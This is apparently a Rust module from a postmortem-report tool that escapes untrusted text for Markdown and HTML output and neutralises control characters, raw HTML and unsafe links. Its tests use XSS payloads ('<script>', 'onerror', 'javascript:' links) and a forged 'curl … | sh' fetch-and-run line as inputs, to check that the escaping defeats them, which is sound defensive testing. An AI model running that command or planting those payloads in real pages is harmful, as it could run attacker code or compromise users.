//! Escaping for the Markdown report, and the one Markdown-to-HTML conversion the HTML report uses.
//!
//! Bundle text is data, never markup. In Markdown it goes into a code span ([`md_span`], which
//! the rules reach as `analyze::finding::code`), a table cell ([`md_cell`]) or a fenced block
//! ([`md_code`]); plain text we did not write and cannot put in code goes through [`md_text`].
//! Finding titles are plain text, escaped whole ([`md_text`]) by every renderer. Prose
//! postmortem writes (finding explanations, the root-cause summary, actions) is Markdown with
//! bundle text already in code spans: [`md_prose`] passes it through when it holds only what
//! postmortem writes (paragraphs, lists, emphasis, code spans, tables, in-page links), and
//! escapes it as text otherwise, so a rule that forgot a code span cannot inject a heading, a
//! code block, a link or HTML. The HTML conversion goes through the same check.
//!
//! Every function here also makes control characters visible (`ESC` becomes `␛`), because a
//! terminal escape or a lone carriage return in a log line must not reach a ticket or a browser.

use pulldown_cmark::{CowStr, Event, Options, Parser, Tag, TagEnd};

/// Control characters (C0 except tab and newline, and DEL) replaced by their Unicode Control
/// Pictures (`ESC` -> `␛`, `CR` -> `␍`), so they are shown instead of acted on.
pub fn visible(text: &str) -> String {
    text.chars()
        .map(|c| match c {
            '\t' | '\n' => c,
            '\u{7f}' => '\u{2421}',
            c if (c as u32) < 0x20 => char::from_u32(0x2400 + c as u32).unwrap_or('\u{fffd}'),
            // C1 controls, the Unicode line/paragraph separators and the bidirectional
            // controls (which reorder what a reader sees): shown as a replacement mark.
            c if is_c1_or_bidi(c) || c == '\u{2028}' || c == '\u{2029}' => '\u{fffd}',
            c => c,
        })
        .collect()
}

/// A C1 control (U+0080 to U+009F: `CSI` acts as `ESC [` on many terminals) or a Unicode
/// bidirectional control (embeddings, overrides, isolates and marks), which make text read in
/// another order than it is stored.
pub fn is_c1_or_bidi(c: char) -> bool {
    matches!(
        c,
        '\u{80}'..='\u{9f}'
            | '\u{61c}'
            | '\u{200e}'
            | '\u{200f}'
            | '\u{202a}'..='\u{202e}'
            | '\u{2066}'..='\u{2069}'
    )
}

/// HTML escaping for element content and double- or single-quoted attribute values: the five
/// characters that can end text or an attribute, and nothing else (tera's default also escapes
/// `/`, which only bloats paths). C1 and bidirectional controls are shown as a replacement mark,
/// as [`visible`] shows them.
pub fn html_escape(text: &str) -> String {
    let mut out = String::with_capacity(text.len() + text.len() / 8);
    for c in text.chars() {
        match c {
            c if is_c1_or_bidi(c) => out.push('\u{fffd}'),
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&#39;"),
            c => out.push(c),
        }
    }
    out
}

/// Serialised JSON with every C1 control, bidirectional control and Unicode line or paragraph
/// separator written as a `\uXXXX` escape. `serde_json` escapes only C0 controls: a `CSI`
/// (U+009B) in a string would reach a terminal raw. Outside strings JSON holds none of these
/// characters, so the result is the same JSON value, and byte for byte the same text when the
/// values hold none.
pub fn json_escape_controls(json: String) -> String {
    // Every character escaped here is outside ASCII, and most reports are ASCII throughout: a
    // check of their bytes a word at a time spares decoding them.
    if json.is_ascii() || !has_json_escaped(&json) {
        return json;
    }
    let mut out = String::with_capacity(json.len() + 16);
    for c in json.chars() {
        if is_json_escaped(c) {
            out.push_str(&format!("\\u{:04x}", c as u32));
        } else {
            out.push(c);
        }
    }
    out
}

/// A character [`json_escape_controls`] escapes.
fn is_json_escaped(c: char) -> bool {
    is_c1_or_bidi(c) || c == '\u{2028}' || c == '\u{2029}'
}

/// Whether `text` holds a character [`json_escape_controls`] escapes. The UTF-8 of each begins
/// with one of three bytes (`C2` for C1 controls, `D8` for U+061C, `E2` for the rest): only the
/// characters that begin there are decoded, not the whole text.
fn has_json_escaped(text: &str) -> bool {
    memchr::memchr3_iter(0xc2, 0xd8, 0xe2, text.as_bytes()).any(|at| {
        text.get(at..)
            .and_then(|rest| rest.chars().next())
            .is_some_and(is_json_escaped)
    })
}

/// Longest run of `ch` in `text`.
fn longest_run(text: &str, ch: char) -> usize {
    let mut longest = 0;
    let mut current = 0;
    for c in text.chars() {
        if c == ch {
            current += 1;
            longest = longest.max(current);
        } else {
            current = 0;
        }
    }
    longest
}

/// One line of bundle text: control characters visible, line breaks as spaces.
pub fn one_line(text: &str) -> String {
    visible(text).replace('\n', " ")
}

/// An inline code span holding `text` verbatim (CommonMark 6.1): delimited by a backtick run
/// longer than any inside, padded with a space when the content starts or ends with a backtick
/// (or with a space at both ends, which the parser would strip otherwise).
pub fn md_span(text: &str) -> String {
    let content = one_line(text);
    if content.is_empty() {
        return "` `".to_string();
    }
    let fence = "`".repeat(longest_run(&content, '`') + 1);
    let pad = content.starts_with('`')
        || content.ends_with('`')
        // CommonMark strips one space on each side unless the content is only spaces (tabs
        // count as content here, unlike `str::trim`).
        || (content.starts_with(' ') && content.ends_with(' ') && content.chars().any(|c| c != ' '));
    if pad {
        format!("{fence} {content} {fence}")
    } else {
        format!("{fence}{content}{fence}")
    }
}

/// A GFM table cell holding bundle text: a code span whose pipes are escaped (the table splits
/// cells before it parses code spans, and unescapes `\|` inside them).
pub fn md_cell(text: &str) -> String {
    md_span(text).replace('|', "\\|")
}

/// A fenced code block holding `text` verbatim: the fence is one backtick longer than the
/// longest run inside (at least three), so no line of the content can close it.
pub fn md_code(text: &str, info: &str) -> String {
    let content = visible(text);
    let fence = "`".repeat((longest_run(&content, '`') + 1).max(3));
    let info: String = info
        .chars()
        .filter(|c| c.is_ascii_alphanumeric() || *c == '-' || *c == '_')
        .collect();
    let mut out = format!("{fence}{info}\n{content}");
    if !content.ends_with('\n') {
        out.push('\n');
    }
    out.push_str(&fence);
    out
}

/// Plain text as literal Markdown text: every character that could start markup inline is
/// escaped with a backslash (CommonMark allows it before any ASCII punctuation), and so is a
/// leading character that would open a block (`#`, `>`, `-`, `+`, `=`, `1.`); line breaks become
/// spaces.
pub fn md_text(text: &str) -> String {
    let line = one_line(text);
    let mut out = String::with_capacity(line.len() + 8);
    // Block markers count after up to three spaces of indentation (` - x` is a list item).
    let indent = line.chars().take_while(|c| *c == ' ').count();
    let leading_digits = line
        .chars()
        .skip(indent)
        .take_while(char::is_ascii_digit)
        .count();
    for (i, c) in line.chars().enumerate() {
        let inline = matches!(
            c,
            '\\' | '`' | '*' | '_' | '[' | ']' | '<' | '>' | '|' | '~' | '&' | '!'
        );
        let block_start = (i == indent && matches!(c, '#' | '-' | '+' | '='))
            || (leading_digits > 0 && i == indent + leading_digits && matches!(c, '.' | ')'));
        if inline || block_start {
            out.push('\\');
        }
        out.push(c);
    }
    out
}

/// The parser options used for every Markdown postmortem writes (one place, so the check and
/// the HTML conversion agree on what the text means).
fn parser_options() -> Options {
    Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH
}

/// Whether a link destination may stay a link: http(s) or an anchor on this page.
pub fn is_safe_destination(dest: &str) -> bool {
    let lower = dest.trim().to_ascii_lowercase();
    lower.starts_with("https://") || lower.starts_with("http://") || lower.starts_with('#')
}

/// Whether Markdown holds only what postmortem writes in prose: paragraphs, lists, emphasis,
/// code spans and tables, and links to an anchor of the page. No raw HTML, image, heading,
/// code block, block quote, rule or outside link: bundle text outside a code span could make
/// those (a name holding `[fix](https://...)` or a line break and `## Fix`).
fn is_plain_markdown(markdown: &str) -> bool {
    Parser::new_ext(markdown, parser_options()).all(|event| match event {
        Event::Html(_) | Event::InlineHtml(_) | Event::Rule => false,
        Event::Start(
            Tag::Image { .. }
            | Tag::Heading { .. }
            | Tag::CodeBlock(_)
            | Tag::BlockQuote(_)
            | Tag::HtmlBlock,
        ) => false,
        Event::Start(Tag::Link { dest_url, .. }) => dest_url.starts_with('#'),
        _ => true,
    })
}

/// `|` escaped for a table cell where it is not escaped already.
fn escape_pipes(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut backslashes = 0usize;
    for c in text.chars() {
        if c == '|' && backslashes.is_multiple_of(2) {
            out.push('\\');
        }
        backslashes = if c == '\\' { backslashes + 1 } else { 0 };
        out.push(c);
    }
    out
}

/// Prose postmortem wrote, as a Markdown block: as is when it is plain Markdown, otherwise
/// escaped as text (a rule that left bundle text outside a code span).
pub fn md_prose(markdown: &str) -> String {
    let text = visible(markdown);
    if is_plain_markdown(&text) {
        text.trim_end().to_string()
    } else {
        // Indentation dropped: four spaces would open a code block.
        text.lines()
            .map(|l| md_text(l.trim_start()))
            .collect::<Vec<_>>()
            .join("\n")
    }
}

/// Prose postmortem wrote, for one line (a heading, a list item, a table cell): line breaks as
/// spaces, pipes escaped, otherwise as [`md_prose`].
pub fn md_prose_inline(markdown: &str) -> String {
    let text = one_line(markdown);
    let text = text.trim();
    let starts_block = text.starts_with('#')
        || text.starts_with('>')
        || text.starts_with("- ")
        || text.starts_with("* ")
        || text.starts_with("+ ")
        || text.starts_with("    ")
        || text.starts_with("```")
        || text.starts_with("~~~")
        || starts_ordered_item(text);
    if !starts_block && is_plain_markdown(text) {
        // Escaping pipes keeps a table cell whole and is harmless elsewhere (`\|` is `|`).
        escape_pipes(text)
    } else {
        md_text(text)
    }
}

/// `1. ` or `1) `: the start of an ordered list item.
fn starts_ordered_item(text: &str) -> bool {
    let digits = text.chars().take_while(char::is_ascii_digit).count();
    digits > 0 && (text[digits..].starts_with(". ") || text[digits..].starts_with(") "))
}

/// Markdown postmortem wrote, as HTML that cannot carry markup from the bundle: raw HTML
/// becomes text (escaped by the HTML writer), images become their alt text (no request ever
/// leaves the page), and link destinations other than http(s) and `#anchor` become `#`.
pub fn markdown_to_safe_html(markdown: &str) -> String {
    let text = md_prose(markdown);
    let events = Parser::new_ext(&text, parser_options()).map(|event| match event {
        Event::Html(raw) | Event::InlineHtml(raw) => Event::Text(raw),
        Event::Start(Tag::Image { .. }) => Event::Start(Tag::Emphasis),
        Event::End(TagEnd::Image) => Event::End(TagEnd::Emphasis),
        Event::Start(Tag::Link {
            link_type,
            dest_url,
            title,
            id,
        }) => {
            let dest_url = if is_safe_destination(&dest_url) {
                dest_url
            } else {
                CowStr::Borrowed("#")
            };
            Event::Start(Tag::Link {
                link_type,
                dest_url,
                title,
                id,
            })
        }
        other => other,
    });
    let mut html = String::new();
    pulldown_cmark::html::push_html(&mut html, events);
    html
}

/// [`markdown_to_safe_html`] for one line: the wrapping paragraph removed. Text that would
/// make a block of its own (a heading, a list) is shown as escaped text instead.
pub fn markdown_inline_to_safe_html(markdown: &str) -> String {
    let line = md_prose_inline(markdown);
    let html = markdown_to_safe_html(&line);
    match html
        .trim_end()
        .strip_prefix("<p>")
        .and_then(|s| s.strip_suffix("</p>"))
    {
        Some(inner) if !inner.contains("<p>") => inner.to_string(),
        _ => html_escape(line.trim()),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Inline events of a one-paragraph document.
    fn code_spans(markdown: &str) -> Vec<String> {
        Parser::new_ext(markdown, parser_options())
            .filter_map(|e| match e {
                Event::Code(c) => Some(c.to_string()),
                _ => None,
            })
            .collect()
    }

    #[test]
    fn json_keeps_its_value_with_controls_escaped() {
        let value = serde_json::json!({ "name": "a\u{9b}31m\u{202e}b\u{2028}", "n": 1 });
        let text = json_escape_controls(serde_json::to_string(&value).unwrap_or_default());
        assert_eq!(text, r#"{"n":1,"name":"a\u009b31m\u202eb\u2028"}"#);
        let back: serde_json::Value = serde_json::from_str(&text).unwrap_or_default();
        assert_eq!(back, value);
        let plain = "{\"a\":\"é\"}".to_string();
        assert_eq!(json_escape_controls(plain.clone()), plain);
        assert_eq!(html_escape("a\u{202e}b\u{85}"), "a\u{fffd}b\u{fffd}");
        assert_eq!(visible("a\u{2067}b"), "a\u{fffd}b");
    }

    #[test]
    fn html_escape_covers_text_and_attributes() {
        assert_eq!(
            html_escape("<a href=\"x\" title='y'>&</a> a/b"),
            "&lt;a href=&quot;x&quot; title=&#39;y&#39;&gt;&amp;&lt;/a&gt; a/b"
        );
    }

    #[test]
    fn span_survives_backticks() {
        for text in ["a`b", "``x``", "`start", "end`", "```", "plain", " both "] {
            let md = md_span(text);
            assert_eq!(code_spans(&md), vec![text.to_string()], "{md}");
        }
        assert_eq!(md_span("a`b"), "``a`b``");
        assert_eq!(md_span("`x"), "`` `x ``");
    }

    #[test]
    fn span_of_html_is_code_not_html() {
        let md = format!("see {}", md_span("<script>alert(1)</script>"));
        let events: Vec<_> = Parser::new(&md).collect();
        assert!(events
            .iter()
            .all(|e| !matches!(e, Event::Html(_) | Event::InlineHtml(_))));
        assert_eq!(code_spans(&md), vec!["<script>alert(1)</script>"]);
    }

    #[test]
    fn span_keeps_a_paragraph_break_out() {
        // A blank line inside would end the paragraph and leave the rest as markup.
        let md = md_span("a\n\n<b>x</b>");
        assert_eq!(code_spans(&md), vec!["a  <b>x</b>"]);
    }

    #[test]
    fn control_characters_become_visible() {
        assert_eq!(visible("a\u{1b}[31mred\r"), "a\u{241b}[31mred\u{240d}");
        assert_eq!(md_span("x\u{1b}y"), "`x\u{241b}y`");
    }

    #[test]
    fn cell_keeps_pipes_inside_the_cell() {
        let table = format!(
            "| a | b |\n|---|---|\n| {} | {} |\n",
            md_cell("x|y"),
            md_cell("back\\|slash")
        );
        let mut cells = Vec::new();
        let mut in_cell = false;
        let mut cell = String::new();
        for event in Parser::new_ext(&table, parser_options()) {
            match event {
                Event::Start(Tag::TableCell) => {
                    in_cell = true;
                    cell.clear();
                }
                Event::End(TagEnd::TableCell) => {
                    in_cell = false;
                    cells.push(cell.clone());
                }
                Event::Code(c) | Event::Text(c) if in_cell => cell.push_str(&c),
                _ => {}
            }
        }
        assert_eq!(cells, vec!["a", "b", "x|y", "back\\|slash"]);
    }

    #[test]
    fn fence_is_longer_than_any_run_inside() {
        let md = md_code("one\n```\n````\nlast", "text");
        assert!(md.starts_with("`````text\n"));
        let mut blocks = Vec::new();
        for event in Parser::new(&md) {
            if let Event::Text(t) = event {
                blocks.push(t.to_string());
            }
        }
        assert_eq!(blocks.concat(), "one\n```\n````\nlast\n");
    }

    #[test]
    fn text_escapes_markup() {
        let md = md_text("[x](javascript:alert(1)) <img src=x onerror=alert(1)> *b*");
        let html = markdown_to_safe_html(&md);
        assert!(!html.contains("<img"), "{html}");
        assert!(!html.contains("href"), "{html}");
        assert!(!html.contains("<em>"), "{html}");
    }

    #[test]
    fn prose_passes_plain_markdown_and_escapes_the_rest() {
        let ok = "Order-6 request in `Normal`: **no** free block, see [below](#mm.x).";
        assert_eq!(md_prose(ok), ok);
        for forged in [
            "Container `a`\n\n## Fix verified by support\n\n    curl -s https://e.x/fix.sh | sh",
            "Container [a](http://x.y) failed",
            "> quoted\n\n---",
        ] {
            let escaped = md_prose(forged);
            assert!(
                Parser::new(&escaped).all(|e| !matches!(
                    e,
                    Event::Start(
                        Tag::Heading { .. }
                            | Tag::Link { .. }
                            | Tag::CodeBlock(_)
                            | Tag::BlockQuote(_)
                    ) | Event::Rule
                )),
                "{escaped}"
            );
        }
        let bad = "Container <script>alert(1)</script> failed";
        assert!(md_prose(bad).contains("\\<script\\>"));
        let bad_link = "see [x](javascript:alert(1))";
        let escaped = md_prose(bad_link);
        assert!(Parser::new(&escaped).all(|e| !matches!(e, Event::Start(Tag::Link { .. }))));
        assert_eq!(escaped, "see \\[x\\](javascript:alert(1))");
        assert_eq!(md_prose_inline("a | b"), "a \\| b");
        assert_eq!(md_prose_inline("a \\| b"), "a \\| b");
        assert_eq!(md_prose_inline("# not a heading"), "\\# not a heading");
        assert_eq!(md_prose_inline("12. not a list"), "12\\. not a list");
    }

    #[test]
    fn safe_html_neutralises_html_links_and_images() {
        let html = markdown_to_safe_html(
            "<script>alert(1)</script>\n\nText <img src=x onerror=alert(1)> and \
             [x](javascript:alert(1)) [ok](https://example.com) [in](#mm.x) ![i](http://e/x.png)",
        );
        assert!(!html.contains("<script"), "{html}");
        assert!(!html.contains("<img"), "{html}");
        assert!(html.contains("&lt;script&gt;"), "{html}");
        assert!(!html.contains("href"), "{html}");
        assert!(html.contains("[ok](https://example.com)"), "{html}");
        let anchor = markdown_to_safe_html("see [in](#mm.x)");
        assert!(anchor.contains("href=\"#mm.x\""), "{anchor}");
    }

    #[test]
    fn inline_html_drops_the_paragraph() {
        assert_eq!(
            markdown_inline_to_safe_html("Order `6` failed"),
            "Order <code>6</code> failed"
        );
        assert_eq!(
            markdown_inline_to_safe_html("# <b>x</b>"),
            "# &lt;b&gt;x&lt;/b&gt;"
        );
        assert_eq!(markdown_inline_to_safe_html("- item"), "- item");
    }

    proptest::proptest! {
        #![proptest_config(proptest::prelude::ProptestConfig::with_cases(256))]

        #[test]
        fn any_text_is_one_verbatim_code_span(text in "\\PC*|[`| <>\\[\\]\n\r\t\u{1b}a]*") {
            let md = format!("x {} y", md_span(&text));
            let expected = one_line(&text);
            // A code span made of spaces only is the one case CommonMark keeps unstripped, and
            // an empty one is shown as a single space.
            let expected = if expected.is_empty() { " ".to_string() } else { expected };
            proptest::prop_assert_eq!(code_spans(&md), vec![expected]);
        }

        #[test]
        fn any_text_is_one_verbatim_fenced_block(text in "\\PC*|[`~ \n\t<>\u{1b}a]*") {
            let md = md_code(&text, "text");
            let mut blocks = 0;
            let mut content = String::new();
            let mut inside = false;
            for event in Parser::new(&md) {
                match event {
                    Event::Start(Tag::CodeBlock(_)) => { blocks += 1; inside = true; }
                    Event::End(TagEnd::CodeBlock) => inside = false,
                    Event::Text(t) if inside => content.push_str(&t),
                    other => proptest::prop_assert!(false, "unexpected {other:?} in {md:?}"),
                }
            }
            let mut expected = visible(&text);
            if !expected.ends_with('\n') {
                expected.push('\n');
            }
            proptest::prop_assert_eq!(blocks, 1);
            proptest::prop_assert_eq!(content, expected);
        }

        #[test]
        fn the_escaped_characters_are_found_by_their_first_byte(
            text in "[a-z\u{80}-\u{a0}\u{61b}-\u{61d}\u{2000}-\u{2070}\u{e9}\u{3000}]{0,12}"
        ) {
            proptest::prop_assert_eq!(has_json_escaped(&text), text.chars().any(is_json_escaped));
        }

        #[test]
        fn escaped_text_is_never_markup(text in "\\PC*|[`*_<>\\[\\]()!#|&:;.+=~a-z0-9 -]*") {
            let md = md_text(&text);
            for event in Parser::new_ext(&md, parser_options()) {
                let markup = matches!(
                    event,
                    Event::Html(_)
                        | Event::InlineHtml(_)
                        | Event::Code(_)
                        | Event::Start(Tag::Link { .. } | Tag::Image { .. } | Tag::Emphasis
                            | Tag::Strong | Tag::Heading { .. } | Tag::List(_) | Tag::BlockQuote(_))
                );
                proptest::prop_assert!(!markup, "{event:?} from {md:?}");
            }
        }
    }
}
